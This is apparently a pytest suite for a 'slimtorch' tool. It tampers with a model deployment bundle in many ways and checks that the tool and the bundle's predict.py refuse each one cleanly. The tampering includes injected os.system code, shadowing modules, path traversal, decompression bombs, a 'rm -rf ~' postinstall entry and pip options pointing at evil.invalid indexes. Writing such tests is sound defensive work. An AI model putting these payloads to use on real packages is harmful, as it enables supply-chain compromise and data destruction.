"""The bundle family of issue 44's hostile corpus: a deployment bundle is verified before anything in it runs
or is installed, and its runner reads inputs within a budget.

Every case copies one real bundle (exported once, an MLP with a dynamic batch) and tampers with it as a
downloaded folder could be tampered with: the runner edited to touch a marker file, code put beside it,
a model byte changed, the manifest given wrong types, missing keys, ``../`` names or huge sizes, the
requirements given pip options, URLs or paths, the sample files made into decompression bombs. An attacker
rewrites the manifest's sha256 to match (``rehash``), so most cases are consistent on their own word.

Two commands meet each one: ``slimtorch footprint`` (run by the corpus harness of ``tests/hostile.py``, in
a forked child) and the bundle's own ``predict.py`` (``--check``, or an input file), run here as a user runs
it, a fresh ``python predict.py`` whose peak memory and time are watched the same way. Each case is a
refusal in one line with exit 2, or a clean accept; never a traceback, never the marker file.
"""

from __future__ import annotations

import contextlib
import functools
import hashlib
import importlib
import io
import json
import os
import py_compile
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest

from tests.hostile import (
    MEMORY_FLOOR,
    WALL_LIMIT,
    Case,
    Invocation,
    Outcome,
    deflate_zeros_bomb,
    hostile_jobs,
    run_cases,
    status_bytes,
    strict,
    touch_command,
    tree_bytes,
    within_inputs,
    zip_with_raw_entries,
)

FAMILY = "bundles"
MARKER = "MARKER"
"""a file the tampered code would write in the case's folder: it must never appear"""
BOMB_ROWS = 12 << 20
"""rows of 64 float32 zeros in a bomb: 3 GiB inflated from about 3 MB"""
Tamper = Callable[[Path, Path], None]
"""``tamper(bundle, case folder)``"""


# -- the bundle, and what an attacker does to it ---------------------------------------------------------
@functools.cache
def _template() -> Path:
    """One real bundle, exported once per session (an MLP taking x of shape [batch, 64])."""
    import torch

    from slimtorch.deploy import export
    from tests.zoo.models import MLP

    folder = Path(tempfile.mkdtemp(prefix="slimtorch-hostile-bundle-"))
    torch.manual_seed(0)
    export(MLP().eval(), torch.randn(1, 64), folder / "bundle", dynamic_batch=True)
    import atexit

    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return folder / "bundle"


def _bundle(folder: Path) -> Path:
    return Path(shutil.copytree(_template(), folder / "bundle"))


def _manifest(bundle: Path) -> dict:
    return json.loads((bundle / "manifest.json").read_text())


def _edit_manifest(bundle: Path, edit: Callable[[dict], object]) -> None:
    manifest = _manifest(bundle)
    edit(manifest)
    (bundle / "manifest.json").write_text(json.dumps(manifest))


def _rehash(bundle: Path, *names: str) -> None:
    """The manifest's size and sha256 of ``names`` made to match, as anyone editing a bundle can."""

    def edit(manifest: dict) -> None:
        for name in names:
            data = (bundle / name).read_bytes()
            manifest["files"][name] = {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}

    _edit_manifest(bundle, edit)


def _touching(folder: Path) -> str:
    """Python that touches the case's marker file."""
    return f"__import__('os').system({touch_command(folder / MARKER)!r})\n"


def _runner_touches(rehash: bool) -> Tamper:
    def tamper(bundle: Path, folder: Path) -> None:
        runner = bundle / "predict.py"
        lines = runner.read_text().splitlines(keepends=True)
        first = next((i + 1 for i, line in enumerate(lines) if line.startswith("from __future__")), 0)
        runner.write_text("".join([*lines[:first], _touching(folder), *lines[first:]]))  # runs on import
        if rehash:
            _rehash(bundle, "predict.py")

    return tamper


def _beside(name: str, listed: bool = False) -> Tamper:
    """Code the runner would import (``numpy.py``, a package, bytecode) put in the bundle's folder."""

    def tamper(bundle: Path, folder: Path) -> None:
        path = bundle / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if name.endswith(".pyc"):
            source = folder / "source.py"
            source.write_text(_touching(folder))
            py_compile.compile(str(source), str(path), doraise=True)
        else:
            path.write_text(_touching(folder))
        if listed:
            _rehash(bundle, name)

    return tamper


def _link_beside(bundle: Path, folder: Path) -> None:
    (bundle / "notes").symlink_to("/etc/passwd")


def _model_a_link(bundle: Path, folder: Path) -> None:
    outside = folder / "model.onnx"
    shutil.move(bundle / "model.onnx", outside)
    (bundle / "model.onnx").symlink_to(outside)  # the same bytes, the same sha256


def _model_byte(bundle: Path, folder: Path) -> None:
    with open(bundle / "model.onnx", "r+b") as stream:
        stream.seek(-100, 2)
        byte = stream.read(1)
        stream.seek(-100, 2)
        stream.write(bytes([byte[0] ^ 0xFF]))


def _model_cut(bundle: Path, folder: Path) -> None:
    data = (bundle / "model.onnx").read_bytes()
    (bundle / "model.onnx").write_bytes(data[: len(data) // 2])


def _manifest_text(text: str) -> Tamper:
    def tamper(bundle: Path, folder: Path) -> None:
        (bundle / "manifest.json").write_text(text)

    return tamper


def _manifest_edit(edit: Callable[[dict], object]) -> Tamper:
    def tamper(bundle: Path, folder: Path) -> None:
        _edit_manifest(bundle, edit)

    return tamper


def _renamed(old: str, new: str) -> Callable[[dict], object]:
    """Every mention of file ``old`` in the manifest made ``new`` (a path out of the folder)."""

    def edit(manifest: dict) -> None:
        manifest["files"][new] = manifest["files"].pop(old)
        if manifest["model"]["file"] == old:
            manifest["model"].update(file=new, files=[new])
        manifest["sample"] = {k: new if v == old else v for k, v in manifest["sample"].items()}

    return edit


def _moved(old: str, new: str) -> Tamper:
    """File ``old`` moved to ``new`` (relative to the bundle, out of it or into a folder), the manifest
    pointing there: the same bytes, the same sha256, only the name is hostile."""

    def tamper(bundle: Path, folder: Path) -> None:
        target = bundle / new
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.move(bundle / old, target)
        _edit_manifest(bundle, _renamed(old, new))

    return tamper


def _with_json_bytes(key: str, raw: str) -> Tamper:
    """The manifest with ``"key": raw`` written verbatim (a number no JSON library would write)."""

    def tamper(bundle: Path, folder: Path) -> None:
        text = json.dumps(_manifest(bundle))
        (bundle / "manifest.json").write_text(text[:-1] + f', "{key}": {raw}}}')

    return tamper


def _requirement(line: str) -> Tamper:
    """``line`` put in requirements.txt before the pinned runtime, the sha256 made to match."""

    def tamper(bundle: Path, folder: Path) -> None:
        path = bundle / "requirements.txt"
        path.write_text(line + "\n" + path.read_text())
        _rehash(bundle, "requirements.txt")

    return tamper


@functools.cache
def _bomb_bytes(rows: int, header_rows: int, zip_size: int | None) -> bytes:
    """An .npz whose member ``x.npy`` inflates to ``rows`` x 64 float32 zeros; its .npy header says
    ``header_rows``, its zip entry ``zip_size`` bytes (None: the truth)."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "<f4", "fortran_order": False, "shape": (header_rows, 64)}
    )
    stream, crc = deflate_zeros_bomb(header.getvalue(), rows * 64 * 4)
    size = len(header.getvalue()) + rows * 64 * 4 if zip_size is None else zip_size
    with tempfile.TemporaryDirectory() as scratch:
        path = zip_with_raw_entries(Path(scratch) / "bomb.npz", [("x.npy", stream, 8, crc, size)])
        return path.read_bytes()


def _npz_bomb(path: Path, header_rows: int = BOMB_ROWS, zip_size: int | None = None) -> Path:
    path.write_bytes(_bomb_bytes(BOMB_ROWS, header_rows, zip_size))
    return path


def _many_members(path: Path, count: int = 5000) -> Path:
    one = io.BytesIO()
    np.save(one, np.zeros((1, 64), np.float32))
    with zipfile.ZipFile(path, "w") as archive:
        for index in range(count):
            archive.writestr(f"x{index}.npy", one.getvalue())
    return path


def _pickled(path: Path) -> Path:
    np.savez(path, x=np.array([{"a": 1}], dtype=object))
    return path


def _sample(make: Callable[[Path], Path]) -> Tamper:
    def tamper(bundle: Path, folder: Path) -> None:
        make(bundle / "sample_inputs.npz")
        _rehash(bundle, "sample_inputs.npz")

    return tamper


def _own_bytecode(bundle: Path, folder: Path) -> None:
    """``from predict import Bundle``, as the runner's docstring suggests, writes its bytecode here."""
    code = "import sys; sys.dont_write_bytecode = False; sys.path.insert(0, '.'); import predict"
    subprocess.run([sys.executable, "-c", code], cwd=bundle, check=True, timeout=60)
    assert list((bundle / "__pycache__").glob("predict.*.pyc"))


def _users_output(bundle: Path, folder: Path) -> None:
    np.savez(bundle / "out.npz", output=np.zeros((1, 10), np.float32))


RUNNER_TAMPERS: dict[str, Tamper] = {
    "runner-touches-a-marker": _runner_touches(rehash=False),
    "runner-touches-a-marker-rehashed": _runner_touches(rehash=True),
}
"""Only footprint meets these: whoever runs an edited predict.py runs the edit."""
TAMPERS: dict[str, Tamper] = {
    "module-beside-the-runner": _beside("numpy.py"),
    "module-beside-the-runner-listed": _beside("numpy.py", listed=True),
    "package-beside-the-runner": _beside("onnxruntime/__init__.py"),
    "bytecode-beside-the-runner": _beside("json.pyc"),
    "other-bytecode-in-pycache": _beside("__pycache__/numpy.cpython-311.pyc"),
    "link-beside-the-runner": _link_beside,
    "model-is-a-link": _model_a_link,
    "model-byte-changed": _model_byte,
    "model-cut-short": _model_cut,
    "manifest-not-json": _manifest_text('{"format": "slimtorch-bundle", '),
    "manifest-a-list": _manifest_text("[]"),
    "manifest-nested-100000-deep": _manifest_text("[" * 100_000 + "]" * 100_000),
    "manifest-files-a-list": _manifest_edit(lambda m: m.update(files=list(m["files"]))),
    "manifest-file-entry-a-string": _manifest_edit(lambda m: m["files"].update({"model.onnx": "ok"})),
    "manifest-shape-a-string": _manifest_edit(lambda m: m["inputs"][0].update(shape="batch x 64")),
    "manifest-dtype-object": _manifest_edit(lambda m: m["inputs"][0].update(dtype="object")),
    "manifest-atol-a-string": _manifest_edit(lambda m: m["tolerance"].update(atol="1e-4")),
    "manifest-version-a-string": _manifest_edit(lambda m: m.update(version="1")),
    "manifest-without-files": _manifest_edit(lambda m: m.pop("files")),
    "manifest-without-model": _manifest_edit(lambda m: m.pop("model")),
    "manifest-without-sample": _manifest_edit(lambda m: m.pop("sample")),
    "manifest-without-inputs": _manifest_edit(lambda m: m.pop("inputs")),
    "manifest-no-inputs": _manifest_edit(lambda m: m.update(inputs=[])),
    "manifest-model-dotdot": _moved("model.onnx", "../model.onnx"),
    "manifest-model-absolute": _manifest_edit(_renamed("model.onnx", "/etc/passwd")),
    "manifest-sample-dotdot": _moved("sample_inputs.npz", "../sample_inputs.npz"),
    "manifest-model-in-a-subfolder": _moved("model.onnx", "sub/model.onnx"),
    "manifest-size-10e30": _manifest_edit(lambda m: m["files"]["model.onnx"].update(bytes=10**30)),
    "manifest-size-negative": _manifest_edit(lambda m: m["files"]["model.onnx"].update(bytes=-1)),
    "manifest-dimension-10e15": _manifest_edit(lambda m: m["inputs"][0].update(shape=["batch", 10**15])),
    "manifest-integer-of-5000-digits": _with_json_bytes("size", "9" * 5000),
    "manifest-unknown-key": _manifest_edit(lambda m: m.update(postinstall="rm -rf ~")),
    "manifest-pip-options": _manifest_edit(
        lambda m: m.update(pip_options=["--index-url", "http://evil.invalid/simple"])
    ),
    "manifest-requirement-a-url": _manifest_edit(
        lambda m: m.update(requirements=["numpy @ https://evil.invalid/numpy.whl"])
    ),
    "manifest-embedding-source-unknown": _manifest_edit(
        lambda m: m["verification"].update(embedding_source={"output": "no", "pooled": 1, "mask": None})
    ),
    **{
        f"requirements-{re.sub(r'[^a-z0-9]+', '-', line.lower()).strip('-')}": _requirement(line)
        for line in (
            "--index-url http://evil.invalid/simple",
            "--extra-index-url http://evil.invalid/simple",
            "-i http://evil.invalid/simple",
            "-f http://evil.invalid/wheels",
            "--trusted-host evil.invalid",
            "-e .",
            "-r other.txt",
            "-c constraints.txt",
            "git+https://github.com/evil/pkg",
            "./local.whl",
            "/tmp/local.whl",
            "https://evil.invalid/numpy-2.0-py3-none-any.whl",
            "evil @ file:///tmp/evil",
            "numpy>=1.24",
            "numpy",
            "numpy[extra]==2.4.6",
            "numpy==2.4.6; python_version > '3'",
            "numpy==2.4.6 --hash=sha256:00",
            "numpy==${EVIL}",
            "numpy==2.4.6 \\",
            "evilpkg==1.0",  # pinned, but not what the manifest lists
        )
    },
    "sample-bomb-3-gib": _sample(_npz_bomb),
    "sample-bomb-lying-zip-size": _sample(functools.partial(_npz_bomb, zip_size=1 << 20)),
    "sample-holds-a-pickle": _sample(_pickled),
    "sample-with-5000-members": _sample(_many_members),
}
ACCEPTED: dict[str, Tamper] = {
    "untampered": lambda bundle, folder: None,
    "with-its-own-bytecode": _own_bytecode,
    "with-the-users-output-beside-it": _users_output,
}
"""What a user's own use of a bundle leaves in it is no reason to refuse it."""


def _no_marker(folder: Path) -> Callable[[str, str], str | None]:
    def check(stdout: str, stderr: str) -> str | None:
        return f"code from the bundle ran: {MARKER} was written" if (folder / MARKER).exists() else None

    return check


def _refused_before_pip(folder: Path) -> Callable[[str, str], str | None]:
    """No marker, and no pip: a refusal from pip itself (an index it cannot reach) comes too late."""

    def check(stdout: str, stderr: str) -> str | None:
        return _no_marker(folder)(stdout, stderr) or (
            "pip ran on the bundle" if "pip install" in stderr else None
        )

    return check


# -- slimtorch footprint, through the corpus harness -------------------------------------------------------
def _footprint_case(name: str, tamper: Tamper, expect: str = "refuse") -> Case:
    def build(folder: Path) -> Invocation:
        bundle = _bundle(folder)
        tamper(bundle, folder)
        return Invocation(["footprint", str(bundle), "--no-baseline"], check=_refused_before_pip(folder))

    return Case(f"{FAMILY}/{name}/footprint", FAMILY, expect, build)


CASES = strict([_footprint_case(name, tamper) for name, tamper in {**RUNNER_TAMPERS, **TAMPERS}.items()])
"""``slimtorch footprint`` on every tampered bundle. The untampered one is accepted in a unit test below:
installing its runtime takes longer than a corpus case may."""


# -- the bundle's own predict.py, run as a user runs it ----------------------------------------------------
def _predict_case(name: str, tamper: Tamper, args: Callable[[Path], list[str]], expect: str) -> Case:
    def build(folder: Path) -> Invocation:
        bundle = _bundle(folder)
        tamper(bundle, folder)
        return Invocation(args(folder), cwd=bundle, check=_no_marker(folder))

    return Case(f"{FAMILY}/{name}/predict.py", FAMILY, expect, build)


def _given(make: Callable[[Path], Path], *flags: str) -> Callable[[Path], list[str]]:
    """``predict.py FILE`` with the input file ``make(folder / "input.<ext>")`` builds."""
    return lambda folder: [str(make(folder)), *flags]


def _npz(*shape: int, dtype=np.float32) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        np.savez(folder / "input.npz", x=np.ones(shape, dtype))
        return folder / "input.npz"

    return make


def _npy(*shape: int) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        np.save(folder / "input.npy", np.ones(shape, np.float32))
        return folder / "input.npy"

    return make


def _in(name: str, write: Callable[[Path], object]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        write(folder / name)
        return folder / name

    return make


def _npy_claiming(rows: int) -> Callable[[Path], object]:
    """A 1 KB .npy whose header claims ``rows`` x 64 float32."""

    def write(path: Path) -> None:
        header = io.BytesIO()
        np.lib.format.write_array_header_1_0(
            header, {"descr": "<f4", "fortran_order": False, "shape": (rows, 64)}
        )
        path.write_bytes(header.getvalue() + bytes(1024))

    return write


def _json(value: object) -> Callable[[Path], object]:
    return lambda path: path.write_text(json.dumps(value))


def CHECK(folder: Path) -> list[str]:
    return ["--check"]


INPUTS: dict[str, tuple[Callable[[Path], list[str]], str]] = {
    "input-npz": (_given(_npz(3, 64)), "accept"),
    "input-npz-int8-for-float32": (_given(_npz(3, 64, dtype=np.int8)), "accept"),
    "input-npy": (_given(_npy(2, 64)), "accept"),
    "input-json": (_given(_in("input.json", _json([[0.5] * 64]))), "accept"),
    "input-npz-bomb-3-gib": (_given(lambda f: _npz_bomb(f / "input.npz")), "refuse"),
    "input-npz-bomb-lying-zip-size": (
        _given(lambda f: _npz_bomb(f / "input.npz", zip_size=1 << 20)),
        "refuse",
    ),
    "input-npz-bomb-header-says-one-row": (
        _given(lambda f: _npz_bomb(f / "input.npz", header_rows=1)),
        "refuse",
    ),
    "input-npz-within-the-shape-over-a-given-budget": (
        _given(_npz(64, 64), "--max-input-bytes", "4096"),
        "refuse",
    ),
    "input-npz-with-5000-members": (_given(lambda f: _many_members(f / "input.npz")), "refuse"),
    "input-npz-holds-a-pickle": (_given(lambda f: _pickled(f / "input.npz")), "refuse"),
    "input-npz-wrong-width": (_given(_npz(3, 63)), "refuse"),
    "input-npz-not-a-zip": (
        _given(_in("input.npz", lambda p: p.write_bytes(bytes(range(256)) * 16))),
        "refuse",
    ),
    "input-npy-claims-a-terabyte": (_given(_in("input.npy", _npy_claiming(4 << 30))), "refuse"),
    "input-npy-holds-a-pickle": (
        _given(_in("input.npy", lambda p: np.save(p, np.array([{}], dtype=object), allow_pickle=True))),
        "refuse",
    ),
    "input-json-nested-100000-deep": (
        _given(_in("input.json", lambda p: p.write_text("[" * 100_000 + "]" * 100_000))),
        "refuse",
    ),
    "input-json-of-objects": (_given(_in("input.json", _json({"x": {"a": 1}}))), "refuse"),
    "input-json-of-strings": (_given(_in("input.json", _json([["a"] * 64]))), "refuse"),
    "input-json-of-a-huge-integer": (_given(_in("input.json", _json([[10**30] * 64]))), "refuse"),
    "input-json-over-a-given-budget": (
        _given(_in("input.json", _json([[0.5] * 64] * 64)), "--max-input-bytes", "32768"),
        "refuse",
    ),
}
PREDICT_CASES = [
    *(_predict_case(name, tamper, CHECK, "refuse") for name, tamper in TAMPERS.items()),
    *(_predict_case(name, tamper, CHECK, "accept") for name, tamper in ACCEPTED.items()),
    *(_predict_case(name, ACCEPTED["untampered"], args, expect) for name, (args, expect) in INPUTS.items()),
    *(
        _predict_case(f"{name}-given-an-input", TAMPERS[name], _given(_npz(3, 64)), "refuse")
        for name in TAMPERS
        if name.startswith("manifest-") or name.endswith("-beside-the-runner")
    ),
]
"""``predict.py --check`` on every tampered bundle and on bundles a user has used, and ``predict.py INPUT``
on hostile inputs and on bundles with a tampered manifest."""
START = _predict_case("start", ACCEPTED["untampered"], CHECK, "accept")
"""``predict.py --check`` of an untouched bundle: the runner's own start, which the cases are held to."""


def run_predict_cases(cases: list[Case], root: Path, wall: float = WALL_LIMIT) -> Iterator[Outcome]:
    """Each case's ``python predict.py ARGS`` in the bundle's folder, one at a time, judged as the harness
    judges a CLI call (a refusal: exit 2, one ``predict.py: error:`` line naming a file of the case): peak
    RSS of the process itself (:func:`_run_predict`), killed past the wall limit or the memory limit, and
    held to issue 44's bound (:func:`tests.hostile.within_inputs`) over the peak of ``predict.py --check``
    on an untouched bundle, the runner's own start."""
    start = 0
    for case in [START, *cases]:
        folder = root / f"{re.sub(r'[^A-Za-z0-9_.-]+', '_', case.id)}-{zlib.crc32(case.id.encode()):08x}"
        folder.mkdir(parents=True)
        started = time.monotonic()
        try:
            invocation = case.build(folder)
        except Exception as exc:
            yield Outcome(
                case, "build", None, "", time.monotonic() - started, 0, 0, f"{type(exc).__name__}: {exc}"
            )
            continue
        inputs = tree_bytes(folder)
        outcome = _run_predict(case, invocation, folder, int(max(MEMORY_FLOOR, 2 * inputs)), wall)
        if case is START:
            assert outcome.verdict == "accepted", outcome.describe()
            start = outcome.peak_rss
            continue
        outcome = within_inputs(outcome, start, inputs)
        if outcome.passed:
            shutil.rmtree(folder, ignore_errors=True)
        yield outcome


def _run_predict(case: Case, invocation: Invocation, folder: Path, limit: int, wall: float) -> Outcome:
    out, err = folder.with_name(folder.name + ".out"), folder.with_name(folder.name + ".err")
    started, killed, peak = time.monotonic(), "", 0
    # wait4's ru_maxrss keeps the larger of the child's own peak and this process's high water at the exec
    # (Linux carries it over): it is the child's only above the latter; below, the polled VmHWM of its own
    # memory after the exec says it (Popen returns once the exec is done)
    inherited = status_bytes(os.getpid(), "VmHWM")
    with open(out, "w") as stdout, open(err, "w") as stderr:
        process = subprocess.Popen(
            [sys.executable, "predict.py", *invocation.argv],
            cwd=invocation.cwd,
            stdin=subprocess.DEVNULL,
            stdout=stdout,
            stderr=stderr,
            start_new_session=True,
        )
        while True:
            done, status, usage = os.wait4(process.pid, os.WNOHANG)
            if done:
                process.returncode = os.waitstatus_to_exitcode(status)
                if usage.ru_maxrss * 1024 > inherited:
                    peak = max(peak, usage.ru_maxrss * 1024)
                break
            peak = max(peak, status_bytes(process.pid, "VmHWM"))
            if not killed and (time.monotonic() - started > wall or peak > limit):
                killed = "timeout" if peak <= limit else "memory"
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(process.pid, signal.SIGKILL)
            time.sleep(0.01)
    seconds, code = time.monotonic() - started, process.returncode
    stdout_text, stderr_text = out.read_text(errors="replace"), err.read_text(errors="replace")

    def done_as(verdict: str, problem: str = "") -> Outcome:
        return Outcome(case, verdict, code, stderr_text, seconds, peak, limit, problem)

    if killed or peak > limit:
        return done_as(killed or "memory", f"peak RSS {peak >> 20} MiB of {limit >> 20}, {seconds:.0f} s")
    if code < 0:
        return done_as("signal", signal.Signals(-code).name)
    if "Traceback" in stderr_text:
        return done_as("traceback", (stderr_text.strip().splitlines() or [""])[-1][:200])
    problem = invocation.check(stdout_text, stderr_text) if invocation.check else None
    if problem:
        return done_as("wrong", problem)
    if code == 0:
        if case.expect == "refuse":
            return done_as("wrong", "accepted (exit 0) where a refusal was expected")
        return done_as("accepted")
    lines = stderr_text.strip().splitlines()
    if code != 2:
        return done_as("wrong", f"exit {code}")
    if len(lines) != 1 or not lines[0].startswith("predict.py: error: "):
        return done_as("wrong", f"{len(lines)} lines on stderr, not one 'predict.py: error:' line")
    if str(folder) not in lines[0]:
        return done_as("wrong", "the message names no file of the case")
    if case.expect == "accept":
        return done_as("wrong", "refused where a clean accept was expected")
    return done_as("refused")


# -- the corpus ---------------------------------------------------------------------------------------------
def _selected(request, cases: list[Case], parameter: str) -> list[Case]:
    chosen = {
        item.callspec.params[parameter].id
        for item in request.session.items
        if item.module is request.module and hasattr(item, "callspec") and parameter in item.callspec.params
    }
    return [case for case in cases if case.id in chosen]


@pytest.fixture(scope="module")
def outcomes(request, tmp_path_factory) -> dict:
    """Run every selected footprint case once, two at a time (the machine's cores), before the first test
    reads."""
    chosen = _selected(request, CASES, "case")
    jobs = hostile_jobs()
    return {o.case.id: o for o in run_cases(chosen, tmp_path_factory.mktemp("hostile"), jobs=jobs)}


@pytest.fixture(scope="module")
def predicted(request, tmp_path_factory) -> dict:
    """Run every selected predict.py case once, one at a time."""
    chosen = _selected(request, PREDICT_CASES, "predict_case")
    return {o.case.id: o for o in run_predict_cases(chosen, tmp_path_factory.mktemp("predict"))}


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_footprint_refuses_a_tampered_bundle_in_one_line_before_anything_in_it_runs(outcomes, case):
    outcome = outcomes[case.id]
    assert outcome.passed, outcome.describe()


@pytest.mark.parametrize("predict_case", PREDICT_CASES, ids=[case.id for case in PREDICT_CASES])
def test_predict_py_refuses_in_one_line_or_accepts_cleanly_within_budget(predicted, predict_case):
    outcome = predicted[predict_case.id]
    assert outcome.passed, outcome.describe()


def test_the_corpus_covers_what_issue_44_names_for_bundles():
    ids = {case.id for case in CASES + PREDICT_CASES}
    assert len(ids) == len(CASES) + len(PREDICT_CASES) and {c.family for c in CASES + PREDICT_CASES} == {
        FAMILY
    }
    for name in ("runner-touches-a-marker-rehashed", "module-beside-the-runner", "model-byte-changed"):
        assert f"{FAMILY}/{name}/footprint" in ids
    for name in ("index-url-http-evil-invalid-simple", "e", "git-https-github-com-evil-pkg", "local-whl"):
        assert f"{FAMILY}/requirements-{name}/footprint" in ids
    assert f"{FAMILY}/input-npz-bomb-3-gib/predict.py" in ids
    assert sum(case.expect == "accept" for case in PREDICT_CASES) >= 6


# -- the pieces, one at a time -------------------------------------------------------------------------------
def test_an_exported_bundle_is_verified_as_it_was_written(tmp_path) -> None:
    from slimtorch.deploy import runner
    from slimtorch.deploy.bundle import shipped_runner, verify_bundle

    bundle = _bundle(tmp_path)
    manifest = verify_bundle(bundle)
    assert (bundle / "predict.py").read_bytes() == shipped_runner() == Path(runner.__file__).read_bytes()
    assert manifest["requirements"] and all(
        runner.PINNED.fullmatch(line) for line in manifest["requirements"]
    )
    lines = [
        line for line in (bundle / "requirements.txt").read_text().splitlines() if not line.startswith("#")
    ]
    assert lines == manifest["requirements"]


def test_footprint_installs_nothing_from_a_bundle_that_fails_verification(tmp_path, monkeypatch) -> None:
    from slimtorch.deploy import footprint
    from slimtorch.errors import FormatError

    footprint_module = importlib.import_module("slimtorch.deploy.footprint")

    def no_venv(*args, **kwargs):
        raise AssertionError("a venv was made for a bundle that fails verification")

    monkeypatch.setattr(footprint_module, "create_venv", no_venv)
    bundle = _bundle(tmp_path)
    _model_byte(bundle, tmp_path)
    with pytest.raises(FormatError, match=re.escape(f"{bundle / 'model.onnx'}: checksum does not match")):
        footprint(bundle, baseline=False)


def test_footprint_installs_wheels_only_and_runs_the_sample_isolated(tmp_path, monkeypatch) -> None:
    """The whole pipeline of an accepted bundle, its installs recorded rather than made (the real install is
    ``test_deploy_export``'s ``test_onnx_bundle_runs_in_its_own_venv_without_torch_within_150_mb``)."""
    from slimtorch.deploy import footprint

    footprint_module = importlib.import_module("slimtorch.deploy.footprint")
    installed, ran = [], []
    monkeypatch.setattr(footprint_module, "create_venv", lambda python, venv: venv / "bin" / "python")
    monkeypatch.setattr(footprint_module, "pip_install", lambda python, args, **kw: installed.append(args))
    monkeypatch.setattr(footprint_module, "_weigh", lambda python: ([], 0))

    def call(command, **kwargs):
        ran.append(command)
        return subprocess.CompletedProcess(command, 0, '{"ok": true}\n', "")

    monkeypatch.setattr(footprint_module, "call", call)
    report = footprint(_bundle(tmp_path), baseline=False)
    assert report.sample_ok and report.model_bytes == (tmp_path / "bundle" / "model.onnx").stat().st_size
    assert installed == [["--no-compile", "--only-binary=:all:", "-r", "requirements.txt"]]
    assert ran[0][1:] == ["-I", "predict.py", "--check"]


@pytest.mark.parametrize(
    "line, pinned",
    [
        ("numpy==2.4.6", True),
        ("onnxruntime==1.32.0", True),
        ("typing_extensions==4.12.2", True),
        ("torch==2.5.1rc1", True),
        ("pkg==1.0.post1.dev2", True),
        ("torch==2.5.1+cpu", False),  # a local label: only some index has it
        ("numpy===2.4.6", False),
        ("numpy == 2.4.6", False),
        ("numpy==2.*", False),
        ("numpy~=2.4", False),
        ("-numpy==2.4.6", False),
        ("numpy==2.4.6#x", False),
    ],
)
def test_a_requirement_is_a_pinned_name_and_nothing_else(tmp_path, line, pinned) -> None:
    from slimtorch.deploy.runner import InvalidBundle, check_requirements

    path = tmp_path / "requirements.txt"
    path.write_text(f"# comment\n\n{line}\n")
    if pinned:
        check_requirements(path, [line])
    else:
        with pytest.raises(InvalidBundle, match=r"is not a pinned package|does not hold"):
            check_requirements(path, [line])


@pytest.mark.parametrize(
    "name, plain",
    [
        ("model.onnx", True),
        ("model.onnx.data", True),
        ("tokenizer_config.json", True),
        ("../model.onnx", False),
        ("..", False),
        ("/etc/passwd", False),
        ("sub/model.onnx", False),
        ("sub\\model.onnx", False),
        (".hidden", False),
        ("", False),
        ("model.onnx\n", False),
        ("C:model.onnx", False),
    ],
)
def test_a_file_of_the_manifest_is_a_plain_name_in_the_bundles_folder(tmp_path, name, plain) -> None:
    from slimtorch.deploy.runner import InvalidBundle, check_manifest

    manifest = _manifest(_template())
    manifest["files"][name] = manifest["files"].pop("model.onnx")
    manifest["model"].update(file=name, files=[name])
    if plain:
        check_manifest(manifest)
    else:
        with pytest.raises(InvalidBundle, match="plain file name"):
            check_manifest(manifest)


def test_an_input_is_held_to_the_manifests_shape_and_the_budget_by_its_header(tmp_path) -> None:
    from slimtorch.deploy.runner import InvalidBundle, array_bytes

    spec = [{"name": "x", "dtype": "float32", "shape": ["batch", 64]}]
    np.savez(tmp_path / "a.npz", x=np.zeros((4, 64), np.float32))
    assert array_bytes(tmp_path / "a.npz", spec, 1024) == 1024
    with pytest.raises(InvalidBundle, match="would take 1,024 bytes in memory, more than the 1,023"):
        array_bytes(tmp_path / "a.npz", spec, 1023)
    np.savez(tmp_path / "b.npz", x=np.zeros((4, 64), np.int8))  # read as int8, then made float32
    assert array_bytes(tmp_path / "b.npz", spec, 1 << 20) == 1024
    np.savez(tmp_path / "c.npz", x=np.zeros((4, 64), np.float32), y=np.zeros(1))
    with pytest.raises(InvalidBundle, match="holds 2 arrays; at most 1"):
        array_bytes(tmp_path / "c.npz", spec, 1 << 20)


def test_the_runner_imports_nothing_from_its_own_folder(tmp_path) -> None:
    """A genuine predict.py meets a json.py beside it before any check could run: it never imports it."""
    bundle = _bundle(tmp_path)
    for module in ("json", "argparse", "numpy", "zipfile"):
        (bundle / f"{module}.py").write_text(_touching(tmp_path))
    done = subprocess.run(
        [sys.executable, "predict.py", "--help"], cwd=bundle, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0 and "--check" in done.stdout
    assert not (tmp_path / MARKER).exists()


def test_a_bundle_is_checked_where_a_user_opens_it_from_python(tmp_path) -> None:
    from slimtorch.deploy.runner import Bundle, InvalidBundle

    bundle = _bundle(tmp_path)
    assert Bundle(bundle).check()["ok"]
    _edit_manifest(bundle, lambda m: m["inputs"][0].update(shape="64"))
    with pytest.raises(InvalidBundle, match=re.escape("manifest.json: inputs[0].shape is not")):
        Bundle(bundle)
